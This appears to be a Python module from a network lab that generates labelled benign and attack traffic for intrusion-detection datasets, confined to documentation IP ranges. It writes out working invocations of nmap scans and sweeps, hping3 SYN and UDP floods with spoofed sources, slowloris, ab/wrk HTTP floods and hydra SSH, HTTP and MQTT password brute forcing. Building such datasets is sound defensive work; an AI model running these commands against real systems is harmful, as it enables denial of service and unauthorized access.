"""What the lab runs: benign and attack scenarios as bounded command lines.

A scenario turns a :class:`LabContext` (addresses, files, seed, scale) into a list
of :class:`Step` s: one command line run in the ``client`` (benign) or
``attacker`` namespace, with a hard timeout. Every tool is also given its own
count or time limit, so a load is bounded twice. Tool options (timing templates,
rates, concurrency, ports, word lists) are drawn from a ``random.Random`` seeded
by the run seed and the scenario name, so runs with different seeds differ in
timing and options: use one seed for training captures and another for test
captures. This module is pure (no I/O, no processes).
"""

from __future__ import annotations

import ipaddress
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

__all__ = [
    "ATTACKER_NET",
    "CLIENT_NET",
    "COMPOSITES",
    "LAB_NETS",
    "MAX_SCALE",
    "MIN_SCALE",
    "SCENARIOS",
    "SPOOFED",
    "SWEEPS",
    "VICTIM_NET",
    "Composite",
    "LabContext",
    "Scenario",
    "ScenarioError",
    "Step",
    "build_steps",
    "check_addresses",
    "make_wordlist",
    "scenario_rng",
    "select_scenarios",
    "validate_scale",
]

#: Documentation ranges (RFC 5737) only: the victim, the attacker and benign clients.
VICTIM_NET = ipaddress.ip_network("192.0.2.0/24")
ATTACKER_NET = ipaddress.ip_network("198.51.100.0/24")
CLIENT_NET = ipaddress.ip_network("203.0.113.0/24")
LAB_NETS = (VICTIM_NET, ATTACKER_NET, CLIENT_NET)

MIN_SCALE = 0.05
MAX_SCALE = 10.0


class ScenarioError(ValueError):
    """A bad scenario selection, scale or definition; the message names the problem."""


@dataclass(frozen=True)
class LabContext:
    """Everything a scenario needs to build its command lines.

    victim, attacker: IPv4 addresses (text); clients: benign client addresses.
    web_files: ``(url path, size in bytes)`` served by nginx on the victim.
    upload_files / download_files: local (client) and remote (victim) paths for scp.
    wordlist: path of the hydra password list (written by the runner from
    :func:`make_wordlist`). workdir: scratch directory for downloads and tool state.
    python, dnslike: interpreter and path of ``dnslike.py``.
    scale: multiplies counts and durations (1.0 = default, ~10 min for all).
    light: keep the traffic small (demo capture): web files ≤ 16 KB only.
    neighbours: more addresses of the victim's network, answered by the victim (a quarter
    of them with a web server), that only network sweeps touch.
    """

    victim: str
    attacker: str
    clients: tuple[str, ...]
    web_files: tuple[tuple[str, int], ...]
    ssh_user: str
    ssh_password: str
    upload_files: tuple[str, ...]
    download_files: tuple[str, ...]
    wordlist: str
    workdir: str
    python: str
    dnslike: str
    seed: int = 0
    scale: float = 1.0
    light: bool = False
    neighbours: tuple[str, ...] = ()


@dataclass(frozen=True)
class Step:
    """One command line run in a lab namespace.

    host: ``client`` or ``attacker``. timeout_s: hard limit (s), after which the
    process group is killed. pause_s: sleep after the step (s).
    """

    host: str
    argv: tuple[str, ...]
    timeout_s: float
    pause_s: float = 0.0


@dataclass(frozen=True)
class Scenario:
    """A named activity. ``label`` is None for benign traffic, else the flow label of its attack."""

    name: str
    label: str | None
    summary: str
    build: Callable[[LabContext, random.Random], list[Step]]


@dataclass(frozen=True)
class Composite:
    """Benign background scenarios looping while attacks run one after another.

    attacks: ``(scenario name, scale factor)``; lead_s / gap_s / tail_s: benign-only
    time before, between and after the attacks (s).
    """

    name: str
    summary: str
    background: tuple[str, ...]
    attacks: tuple[tuple[str, float], ...]
    lead_s: float = 5.0
    gap_s: float = 3.0
    tail_s: float = 4.0


def _n(base: float, scale: float, minimum: int = 1) -> int:
    """``base`` scaled, rounded, at least ``minimum``."""
    return max(minimum, round(base * scale))


_SSH_OPTS = (
    "-F", "/dev/null",
    "-o", "StrictHostKeyChecking=no",
    "-o", "UserKnownHostsFile=/dev/null",
    "-o", "ConnectTimeout=5",
    "-o", "PreferredAuthentications=password",
    "-o", "PubkeyAuthentication=no",
    "-o", "LogLevel=ERROR",
)  # fmt: skip

_SSH_COMMANDS = (
    "uname -a; uptime",
    "ls -la /etc | head -40",
    "cat /etc/os-release",
    "df -h; free -m",
    "ps -o pid,etime,comm -u $USER",
    "sleep 1; date",
    "ls /usr/share/doc | head -120",
    "id; who; hostname",
)


def _web(ctx: LabContext, rng: random.Random) -> list[Step]:
    files = [f for f in ctx.web_files if not ctx.light or f[1] <= 16 * 1024]
    weights = [1.0 / (1.0 + (size / 65536.0) ** 0.5) for _, size in files]
    steps = []
    for _ in range(_n(60, ctx.scale, 3)):
        argv = [
            "curl",
            "-s",
            "--max-time",
            "20",
            "--connect-timeout",
            "5",
            "--interface",
            rng.choice(ctx.clients),
        ]
        if rng.random() < 0.1:
            argv.append("-I")
        if rng.random() < 0.2:
            argv += ["--limit-rate", rng.choice(["500k", "2M"])]
        paths = [p for p, _ in rng.choices(files, weights, k=rng.choice([1, 1, 1, 2, 3]))]
        if rng.random() < 0.08:
            paths.append(f"/missing-{rng.randrange(1000)}.html")
        for path in paths:
            argv += ["-o", "/dev/null", f"http://{ctx.victim}{path}"]
        steps.append(Step("client", tuple(argv), 30.0, round(rng.uniform(0.1, 1.2), 2)))
    return steps


def _small_files(ctx: LabContext, limit: int) -> list[str]:
    """URL paths of the web files up to ``limit`` bytes (the smallest one if none is)."""
    small = [p for p, size in ctx.web_files if size <= limit]
    return small or [min(ctx.web_files, key=lambda f: f[1])[0]]


def _browse(ctx: LabContext, rng: random.Random) -> list[Step]:
    """Page loads: a page plus its assets over 2-6 parallel keep-alive connections, then think time."""
    assets = _small_files(ctx, 16384 if ctx.light else 65536)
    steps = []
    for _ in range(_n(25, ctx.scale, 3)):
        argv = [
            "curl", "-s", "--max-time", "20", "--connect-timeout", "5",
            "--interface", rng.choice(ctx.clients),
            "--parallel", "--parallel-max", str(rng.choice([2, 4, 6])),
        ]  # fmt: skip
        if rng.random() < 0.15:
            argv.append("-0")  # an HTTP/1.0 client: one connection per object
        for path in rng.choices(assets, k=rng.randint(4, 15)):
            argv += ["-o", "/dev/null", f"http://{ctx.victim}{path}"]
        steps.append(Step("client", tuple(argv), 30.0, round(rng.uniform(0.5, 4.0), 2)))
    return steps


def _poll(ctx: LabContext, rng: random.Random) -> list[Step]:
    """Monitoring-style polling: small objects, a new connection for each, a few per second."""
    small = _small_files(ctx, 16384)
    steps = []
    for _ in range(_n(8, ctx.scale, 2)):
        count = rng.randint(8, 25)
        rate = rng.choice([1, 2, 5, 10])
        argv = [
            "curl", "-s", "--max-time", "10", "--connect-timeout", "5",
            "--interface", rng.choice(ctx.clients), "-H", "Connection: close", "--rate", f"{rate}/s",
        ]  # fmt: skip
        for path in rng.choices(small, k=count):
            argv += ["-o", "/dev/null", f"http://{ctx.victim}{path}"]
        steps.append(Step("client", tuple(argv), count / rate + 20.0, round(rng.uniform(0.5, 3.0), 2)))
    return steps


def _ssh(ctx: LabContext, rng: random.Random) -> list[Step]:
    steps = []
    for _ in range(_n(12, ctx.scale, 2)):
        cmd = "; ".join(rng.sample(_SSH_COMMANDS, rng.randint(1, 3)))
        argv = (
            "sshpass", "-p", ctx.ssh_password, "ssh", *_SSH_OPTS, "-b", rng.choice(ctx.clients),
            f"{ctx.ssh_user}@{ctx.victim}", cmd,
        )  # fmt: skip
        steps.append(Step("client", argv, 30.0, round(rng.uniform(0.5, 3.0), 2)))
    return steps


def _scp(ctx: LabContext, rng: random.Random) -> list[Step]:
    steps = []
    for i in range(_n(8, ctx.scale, 2)):
        opts = (*_SSH_OPTS, "-o", f"BindAddress={rng.choice(ctx.clients)}")
        remote = f"{ctx.ssh_user}@{ctx.victim}"
        if i % 2 == 0:
            src, dst = rng.choice(ctx.upload_files), f"{remote}:upload-{i}.bin"
        else:
            src, dst = f"{remote}:{rng.choice(ctx.download_files)}", f"{ctx.workdir}/download-{i}.bin"
        argv = ("sshpass", "-p", ctx.ssh_password, "scp", "-q", *opts, src, dst)
        steps.append(Step("client", argv, 60.0, round(rng.uniform(0.5, 2.5), 2)))
    return steps


def _dns(ctx: LabContext, rng: random.Random) -> list[Step]:
    steps = []
    for _ in range(2):
        count = _n(150, ctx.scale, 5)
        argv = (
            ctx.python, ctx.dnslike, "query", "--server", ctx.victim, "--bind", rng.choice(ctx.clients),
            "--count", str(count), "--seed", str(rng.randrange(2**31)),
            "--pause-max", str(round(rng.uniform(0.2, 0.5), 2)),
            "--max-seconds", str(round(60 * ctx.scale + 10)),
        )  # fmt: skip
        steps.append(Step("client", argv, 60 * ctx.scale + 20, 0.5))
    return steps


def _iperf(ctx: LabContext, rng: random.Random) -> list[Step]:
    seconds = _n(6, ctx.scale, 2)
    argv = [
        "iperf3", "-c", ctx.victim, "-B", rng.choice(ctx.clients), "-t", str(seconds),
        "-b", rng.choice(["10M", "20M", "30M"]), "-P", str(rng.choice([1, 1, 2])),
        "--connect-timeout", "3000",
    ]  # fmt: skip
    if rng.random() < 0.5:
        argv.append("-R")
    return [Step("client", tuple(argv), seconds + 20.0, 1.0)]


def _nmap(kind: str) -> Callable[[LabContext, random.Random], list[Step]]:
    """nmap scans; SYN and connect scans run twice with independently drawn options."""

    def one(ctx: LabContext, rng: random.Random, part: float) -> Step:
        argv = ["nmap", "-n", "-Pn", f"-T{rng.choice([3, 4, 4, 5])}", "--max-retries", "1"]
        ports = min(5000, _n(1000 * part, ctx.scale, 20) + rng.randrange(200))
        if kind in ("syn", "connect"):
            argv.append("-sS" if kind == "syn" else "-sT")
            if rng.random() < 0.5:
                first = rng.choice([1, 1, 20, 100])
                argv += ["-p", f"{first}-{min(65535, first + ports)}"]
            else:
                argv += ["--top-ports", str(ports)]
            if rng.random() < 0.3:
                argv += ["--scan-delay", f"{rng.choice([1, 2, 5])}ms"]
            if kind == "syn" and rng.random() < 0.25:
                argv += ["-g", rng.choice(["53", "80"])]  # a fixed source port, as firewall evasion
            limit = 60
        elif kind == "version":
            extra = sorted(rng.sample(range(1, 1024), 4))
            ports_list = ",".join(str(p) for p in sorted({22, 53, 80, 5201, *extra}))
            argv += ["-sV", "--version-intensity", str(rng.randint(5, 9)), "-p", ports_list]
            limit = 120
        else:
            argv += [
                "-sU",
                "--top-ports",
                str(_n(100, ctx.scale, 10)),
                "--min-rate",
                str(rng.choice([50, 100, 200])),
            ]
            limit = 90
        argv += ["--host-timeout", f"{round(limit * max(1.0, ctx.scale))}s", ctx.victim]
        return Step("attacker", tuple(argv), limit * max(1.0, ctx.scale) + 15, 1.0)

    def build(ctx: LabContext, rng: random.Random) -> list[Step]:
        if kind in ("syn", "connect"):
            return [one(ctx, rng, 0.5), one(ctx, rng, 0.5)]
        return [one(ctx, rng, 1.0)]

    return build


def _nmap_sweep(ctx: LabContext, rng: random.Random) -> list[Step]:
    """A network sweep of the victim's /25 (the victim and its neighbours): host discovery with
    IP probes, then a few ports on every host, as Angry IP or masscan-style inventory scans do."""
    net = f"{ctx.victim.rsplit('.', 1)[0]}.0/25"
    limit = 90 * max(1.0, ctx.scale)
    common = [
        "-n",
        f"-T{rng.choice([3, 4, 4, 5])}",
        "--max-retries",
        "1",
        "--host-timeout",
        f"{round(limit)}s",
    ]
    discover = ["nmap", "-sn", "--send-ip", *common]
    discover += rng.choice([[], ["-PE"], ["-PS22,80,443"], ["-PE", "-PA80", "-PP"]])
    ports = sorted(
        rng.sample([21, 22, 23, 25, 53, 80, 110, 139, 443, 445, 3389, 5900, 8080, 8443], rng.randint(2, 6))
    )
    probe = ["nmap", rng.choice(["-sS", "-sT"]), "-Pn", *common, "-p", ",".join(map(str, ports))]
    if rng.random() < 0.3:
        probe += ["--scan-delay", f"{rng.choice([5, 20])}ms"]
    return [
        Step("attacker", (*discover, net), limit + 15, 1.0),
        Step("attacker", (*probe, net), limit + 15, 1.0),
    ]


#: Attacks that touch the victim's neighbours too (their label windows cover every address).
SWEEPS: frozenset[str] = frozenset({"nmap_sweep"})
#: Attacks from spoofed sources (their label rows name no attacker: ``ANY_SOURCE``).
SPOOFED: frozenset[str] = frozenset({"syn_flood_spoofed"})


def _hping_burst(ctx: LabContext, count: int, interval_us: int, mode: Sequence[str]) -> Step:
    """One hping3 burst of ``count`` packets every ``interval_us`` µs; ``mode``: its packet options."""
    argv = ("hping3", "-q", *mode, "-c", str(count), "-i", f"u{interval_us}", ctx.victim)
    return Step("attacker", argv, count * interval_us / 1e6 * 3 + 15, 0.5)


def _syn_flood(ctx: LabContext, rng: random.Random) -> list[Step]:
    """Two hping3 SYN bursts with their own port, rate and (sometimes) payload."""
    steps = []
    for _ in range(2):
        interval_us = rng.choice([200, 300, 500])
        mode = ["-S", "-p", rng.choice(["80", "80", "22", "443"])]
        if rng.random() < 0.3:
            mode += ["-d", str(rng.choice([40, 120, 512]))]
        steps.append(_hping_burst(ctx, _n(10000, ctx.scale, 50), interval_us, mode))
    return steps


def _syn_flood_spoofed(ctx: LabContext, rng: random.Random) -> list[Step]:
    """Two hping3 SYN bursts from random (spoofed) sources: every SYN a flow of its own, none
    answered (the victim has no route back to them)."""
    steps = []
    for _ in range(2):
        interval_us = rng.choice([100, 200, 500])
        mode = ["-S", "--rand-source", "-p", rng.choice(["80", "80", "22", "443", "1883"])]
        steps.append(_hping_burst(ctx, _n(5000, ctx.scale, 50), interval_us, mode))
    return steps


def _udp_flood(ctx: LabContext, rng: random.Random) -> list[Step]:
    """Two hping3 UDP bursts with their own port, payload size and rate."""
    steps = []
    for _ in range(2):
        interval_us = rng.choice([200, 300, 500])
        port = rng.choice(["53", "53", "123", "161", "5060"])
        mode = ["--udp", "-p", port, "-d", str(rng.choice([32, 64, 256, 512, 1024]))]
        steps.append(_hping_burst(ctx, _n(5000, ctx.scale, 50), interval_us, mode))
    return steps


def _slowloris(ctx: LabContext, rng: random.Random) -> list[Step]:
    seconds = _n(30, ctx.scale, 5)
    argv = (
        "slowhttptest", "-H", "-c", str(_n(300, ctx.scale, 20)), "-r", str(rng.choice([30, 50, 100])),
        "-i", str(rng.choice([5, 10, 15])), "-l", str(seconds), "-s", "8192", "-t", "GET",
        "-u", f"http://{ctx.victim}/", "-x", str(rng.choice([16, 24, 32])), "-p", "3",
    )  # fmt: skip
    return [Step("attacker", argv, seconds + 30.0)]


def _mqttlike(ctx: LabContext) -> str:
    return str(Path(ctx.dnslike).with_name("mqttlike.py"))


def _mqtt(ctx: LabContext, rng: random.Random) -> list[Step]:
    """Telemetry sensors publishing to the broker, some over one long-lived connection, some
    connecting anew for every reading (lab/mqttlike.py)."""
    steps = []
    for _ in range(2):
        seconds = _n(40, ctx.scale, 5)
        argv = (
            ctx.python, _mqttlike(ctx), "telemetry", "--server", ctx.victim,
            "--bind", rng.choice(ctx.clients), "--user", ctx.ssh_user, "--password", ctx.ssh_password,
            "--sensors", str(rng.randint(2, 6)), "--seconds", str(seconds),
            "--seed", str(rng.randrange(2**31)),
        )  # fmt: skip
        steps.append(Step("client", argv, seconds + 30.0, 0.5))
    return steps


def _ssh_bruteforce(ctx: LabContext, rng: random.Random) -> list[Step]:
    tasks = rng.choice([1, 2, 4, 6, 8, 16])
    argv = (
        "hydra",
        "-I",
        "-f",
        "-l",
        ctx.ssh_user,
        "-P",
        ctx.wordlist,
        "-t",
        str(tasks),
        "-w",
        "10",
        f"ssh://{ctx.victim}",
    )
    return [Step("attacker", argv, 120 * max(1.0, ctx.scale) + 30)]


def _http_bruteforce(ctx: LabContext, rng: random.Random) -> list[Step]:
    """hydra against the web server: HTTP basic auth on /private/, or a login form on /login;
    two runs with their own module, parallel tasks and (sometimes) a wait between tries."""
    steps = []
    for _ in range(2):
        tasks = str(rng.choice([1, 2, 4, 8, 16]))
        argv = ["hydra", "-I", "-l", ctx.ssh_user, "-P", ctx.wordlist, "-t", tasks]
        if rng.random() < 0.4:
            argv += ["-W", str(rng.choice([1, 2, 3]))]
        if rng.random() < 0.5:
            argv += ["-f", ctx.victim, "http-get", "/private/"]
        else:
            argv += [ctx.victim, "http-post-form", "/login:user=^USER^&pass=^PASS^:F=login failed"]
        steps.append(Step("attacker", tuple(argv), 90 * max(1.0, ctx.scale) + 30, 1.0))
    return steps


def _mqtt_bruteforce(ctx: LabContext, rng: random.Random) -> list[Step]:
    """MQTT CONNECT password guessing, a new connection per guess (lab/mqttlike.py guess): a fast
    run (several at a time, little or no pause) and a slow one (one at a time, 0.5-2 s apart,
    as tools that keep under lockout limits do)."""
    seconds = 60 * max(1.0, ctx.scale)
    steps = []
    for parallel, pause in (
        (rng.choice([1, 2, 4, 8]), rng.choice([0, 0, 0.05, 0.3])),
        (1, rng.choice([1, 2, 4])),
    ):
        argv = (
            ctx.python, _mqttlike(ctx), "guess", "--server", ctx.victim, "--user", ctx.ssh_user,
            "--wordlist", ctx.wordlist, "--parallel", str(parallel), "--pause-max", str(pause),
            "--max-seconds", str(seconds), "--seed", str(rng.randrange(2**31)),
        )  # fmt: skip
        steps.append(Step("attacker", argv, seconds + 30.0, 1.0))
    return steps


def _http_flood(ctx: LabContext, rng: random.Random) -> list[Step]:
    """Three bursts, each with its own tool (ab or wrk), page, concurrency and connection reuse.

    ab is bounded by a request count and pages up to 16 KB; wrk has no request count, so
    it gets pages up to 4 KB and a third of the time (at loopback speed it otherwise
    writes gigabytes).
    """
    seconds = _n(10, ctx.scale, 2)
    steps = []
    for _ in range(3):
        conc = rng.choice([10, 20, 50, 100])
        if rng.random() < 0.6:
            url = f"http://{ctx.victim}{rng.choice(_small_files(ctx, 16384))}"
            argv = ["ab", "-q", "-r", "-s", "10", "-t", str(seconds), "-n", str(_n(2000, ctx.scale, 50))]
            argv += ["-c", str(conc), *(["-k"] if rng.random() < 0.3 else []), url]
            limit = seconds
        else:
            url = f"http://{ctx.victim}{rng.choice(_small_files(ctx, 4096))}"
            limit = _n(3, ctx.scale, 1)
            argv = ["wrk", "-t", "2", "-c", str(min(conc, 50)), "-d", f"{limit}s", "--timeout", "10s"]
            argv += [*(["-H", "Connection: close"] if rng.random() < 0.5 else []), url]
        steps.append(Step("attacker", tuple(argv), limit + 20.0, 0.5))
    return steps


def make_wordlist(rng: random.Random, size: int, password: str) -> list[str]:
    """A hydra password list: ``size`` wrong guesses, the real password last (so ``-f`` stops there)."""
    stems = (
        "password",
        "admin",
        "letmein",
        "qwerty",
        "dragon",
        "monkey",
        "summer",
        "welcome",
        "secret",
        "pi",
    )
    words: list[str] = []
    seen = {password}
    while len(words) < size:
        w = f"{rng.choice(stems)}{rng.randrange(10000) if rng.random() < 0.8 else ''}"
        if w not in seen:
            seen.add(w)
            words.append(w)
    return [*words, password]


#: Every simple scenario, benign first, in the order a full run uses.
SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        Scenario("web", None, "curl fetches of files 0.5 KB-4 MB with pauses, keep-alive, HEAD, 404", _web),
        Scenario("browse", None, "page loads: 4-15 objects over 2-6 parallel connections", _browse),
        Scenario("poll", None, "polling small objects, a new connection each, 1-10 per second", _poll),
        Scenario("ssh", None, "SSH password logins (sshpass) that run shell commands", _ssh),
        Scenario("scp", None, "scp uploads and downloads of 64 KB-2 MB files", _scp),
        Scenario("dns", None, "DNS-like UDP queries and answers (lab/dnslike.py)", _dns),
        Scenario("iperf", None, "one iperf3 TCP transfer at 10-30 Mbit/s", _iperf),
        Scenario("mqtt", None, "MQTT telemetry: sensors publishing readings, long-lived or one-shot", _mqtt),
        Scenario("nmap_syn", "PortScan", "two nmap SYN scans (-sS), own ports and timing", _nmap("syn")),
        Scenario("nmap_connect", "PortScan", "two nmap connect scans (-sT)", _nmap("connect")),
        Scenario("nmap_version", "PortScan", "nmap service/version scan (-sV)", _nmap("version")),
        Scenario("nmap_udp", "PortScan", "nmap UDP scan (-sU) of the top UDP ports", _nmap("udp")),
        Scenario(
            "nmap_sweep",
            "PortScan",
            "nmap host discovery and a few ports across the victim's /25",
            _nmap_sweep,
        ),
        Scenario("syn_flood", "DoS SYN Flood", "two hping3 SYN bursts on a web or SSH port", _syn_flood),
        Scenario(
            "syn_flood_spoofed",
            "DoS SYN Flood",
            "two hping3 SYN bursts from random spoofed sources",
            _syn_flood_spoofed,
        ),
        Scenario("slowloris", "DoS slowloris", "slowhttptest slow headers (slowloris) on nginx", _slowloris),
        Scenario("ssh_bruteforce", "SSH-BruteForce", "hydra SSH password guessing", _ssh_bruteforce),
        Scenario(
            "http_bruteforce",
            "HTTP-BruteForce",
            "hydra HTTP basic-auth or login-form guessing",
            _http_bruteforce,
        ),
        Scenario("mqtt_bruteforce", "MQTT-BruteForce", "MQTT CONNECT password guessing", _mqtt_bruteforce),
        Scenario("http_flood", "DoS HTTP Flood", "three ab/wrk bursts, pages ≤ 16 KB", _http_flood),
        Scenario("udp_flood", "DoS UDP Flood", "two hping3 UDP bursts", _udp_flood),
    )
}

#: Mixed captures: benign background with attacks inside.
COMPOSITES: dict[str, Composite] = {
    "demo": Composite(
        "demo",
        "benign web/ssh/dns with a short nmap SYN scan, hping3 SYN flood and slowloris inside",
        background=("web", "web", "ssh", "dns", "dns"),
        attacks=(("nmap_syn", 0.3), ("syn_flood", 0.1), ("slowloris", 0.4)),
    ),
    "busy": Composite(
        "busy",
        "benign page loads, polling, web, ssh and dns while an HTTP flood, slowloris, a SYN flood "
        "and a connect scan run: benign flows under load",
        background=("browse", "poll", "web", "ssh", "dns"),
        attacks=(("http_flood", 0.5), ("slowloris", 0.5), ("syn_flood", 0.2), ("nmap_connect", 0.5)),
    ),
}

#: Names ``--scenarios`` accepts for groups.
_GROUPS = {
    "all": [n for n in SCENARIOS],
    "benign": [n for n, s in SCENARIOS.items() if s.label is None],
    "attacks": [n for n, s in SCENARIOS.items() if s.label is not None],
}


def validate_scale(scale: float) -> float:
    """``scale`` if within [MIN_SCALE, MAX_SCALE], else ``ScenarioError``."""
    if not (MIN_SCALE <= scale <= MAX_SCALE):
        raise ScenarioError(f"--scale {scale} is outside [{MIN_SCALE}, {MAX_SCALE}]")
    return scale


def select_scenarios(spec: str) -> list[str]:
    """Names from a comma list of scenario, composite or group (all, benign, attacks) names, in order.

    Unknown or repeated names raise ``ScenarioError`` listing what exists.
    """
    names: list[str] = []
    parts = [p.strip() for p in spec.split(",")]
    if not spec.strip() or any(not p for p in parts):
        raise ScenarioError(f"--scenarios {spec!r}: empty name in the list")
    for part in parts:
        expanded = _GROUPS.get(part) or ([part] if part in SCENARIOS or part in COMPOSITES else None)
        if expanded is None:
            known = ", ".join([*_GROUPS, *SCENARIOS, *COMPOSITES])
            raise ScenarioError(f"unknown scenario {part!r}; known: {known}")
        for name in expanded:
            if name in names:
                raise ScenarioError(f"scenario {name!r} selected twice")
            names.append(name)
    return names


def scenario_rng(seed: int, name: str) -> random.Random:
    """The random stream of scenario ``name`` in a run with ``seed`` (independent of the other scenarios)."""
    return random.Random(f"{seed}:{name}")


def check_addresses(steps: Sequence[Step]) -> None:
    """Raise ``ScenarioError`` if a command line names an IP address outside the lab's ranges."""
    for step in steps:
        for token in step.argv:
            host = token.split("://", 1)[-1].split("@")[-1].split("/")[0].split(":")[0].split("=")[-1]
            try:
                addr = ipaddress.ip_address(host)
            except ValueError:
                continue
            if not any(addr in net for net in LAB_NETS):
                raise ScenarioError(
                    f"command {step.argv[0]} targets {addr}, outside the lab's address ranges"
                )


def build_steps(name: str, ctx: LabContext) -> list[Step]:
    """The checked, bounded steps of simple scenario ``name``."""
    scenario = SCENARIOS.get(name)
    if scenario is None:
        raise ScenarioError(f"unknown simple scenario {name!r}")
    steps = scenario.build(ctx, scenario_rng(ctx.seed, name))
    for step in steps:
        if step.host not in ("client", "attacker"):
            raise ScenarioError(f"{name}: step runs on unknown host {step.host!r}")
        if (step.host == "attacker") != (scenario.label is not None):
            raise ScenarioError(f"{name}: benign steps run on the client, attacks on the attacker")
        if not (0 < step.timeout_s <= 1800):
            raise ScenarioError(f"{name}: step timeout {step.timeout_s} s is not in (0, 1800]")
    check_addresses(steps)
    return steps
